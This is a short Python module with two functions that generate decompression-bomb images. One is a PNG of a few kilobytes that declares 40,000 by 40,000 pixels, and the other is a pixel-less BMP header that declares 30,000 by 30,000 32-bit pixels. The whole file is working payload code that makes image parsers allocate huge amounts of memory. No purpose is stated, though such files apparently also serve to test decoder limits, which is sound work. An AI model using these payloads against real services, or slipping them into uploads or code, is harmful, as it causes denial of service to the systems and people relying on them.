"""Small files that ask for far more than they are."""

import struct
import zlib


def png_bomb(width: int = 40_000, height: int = 40_000) -> bytes:
    """Return a PNG of a few kilobytes that declares `width` by `height` pixels of grey."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(bytes(1 << 20), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def bmp_bomb() -> bytes:
    """Return a BMP header that declares 30,000 by 30,000 pixels of 32 bits, without them."""
    body = struct.pack("<IiiHHIIiiII", 40, 30_000, 30_000, 1, 32, 0, 0, 0, 0, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54, 0, 0, 54) + body
